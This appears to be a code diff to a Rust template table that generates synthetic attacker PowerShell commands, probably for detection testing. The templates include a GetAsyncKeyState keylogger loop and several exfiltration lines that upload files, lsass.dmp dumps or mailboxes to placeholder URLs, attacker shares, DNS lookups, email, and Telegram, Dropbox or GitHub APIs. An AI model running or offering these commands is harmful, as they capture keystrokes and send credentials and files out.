@@ -88,25 +88,25 @@ pub const FAMILIES: &[Family] = &[
             "GetAsyncKeyState(int k);' -Name {alnum4} -Namespace {alnum4} -PassThru; while(1){ 8..255 | % { ",
             "if ($k::GetAsyncKeyState($_) -eq -32767) { [char]$_ | Add-Content {psout} } } }",
         ),
-        "Invoke-RestMethod -Uri {url} -Method Post -InFile {psout}",
-        "(New-Object Net.WebClient).UploadFile('{url}', '{outfile}')",
+        r"Invoke-RestMethod -Uri {url} -Method Post -InFile {psdir}\{stem}.zip",
+        r"(New-Object Net.WebClient).UploadFile('{url}', '{dir}\{stem}.{anyext}')",
         concat!(
-            "$b = [Convert]::ToBase64String([IO.File]::ReadAllBytes('{outfile}')); Invoke-WebRequest {url} ",
-            "-Method POST -Body $b",
+            r"$b = [Convert]::ToBase64String([IO.File]::ReadAllBytes('{dir}\{stem}.{anyext}')); ",
+            "Invoke-WebRequest {url} -Method POST -Body $b",
         ),
         concat!(
             "Send-MailMessage -From {user}@{domain} -To {first}@{domain} -Subject {stem} -Attachments ",
-            "{psout} -SmtpServer {ip}",
+            r"{psdir}\{stem}.zip -SmtpServer {ip}",
         ),
         r#"1..{10..900} | % { Resolve-DnsName "$($b.Substring($_*30,30)).{fqdn}" }"#,
         concat!(
-            r"Copy-Item {psout} \\{attacker}\{share}; Start-BitsTransfer -Source {psout} -Destination {url} ",
-            "-TransferType Upload",
+            r"Copy-Item {psdir}\{stem}.zip \\{attacker}\{share}; Start-BitsTransfer -Source ",
+            r"{psdir}\{stem}.zip -Destination {url} -TransferType Upload",
         ),
         concat!(
             "$c = Get-Credential; $r = Invoke-RestMethod 'https://api.«telegram.org/bot{digit9}:{alnum32}/sen",
             "dDocument¦dropboxapi.com/2/files/upload¦github.com/repos/{first}/{stem}/contents/{stem}»' ",
-            "-Method Post -InFile {psout}",
+            r"-Method Post -InFile {psdir}\{stem}.zip",
         ),
     ])
     .weight(8),
@@ -145,8 +145,8 @@ pub const FAMILIES: &[Family] = &[
     ])
     .slots(&[
         ("w", concat!(
-                r"«{dir}\{stem}.«zip¦7z¦rar¦cab»¦{outfile}¦{docfile}¦{dir}\lsass.dmp¦{dir}\{stem}.pst¦{dir}\{stem}",
-                ".part{1..9}.rar»",
+                r"«{dir}\{stem}.«zip¦7z¦rar¦cab»¦{dir}\{stem}.{anyext}¦{docfile}¦{dir}\lsass.dmp¦{dir}\{stem}.pst¦",
+                r"{dir}\{stem}.part{1..9}.rar»",
             )),
     ]),
     Family::other("impact", "impact", Cmd, &[
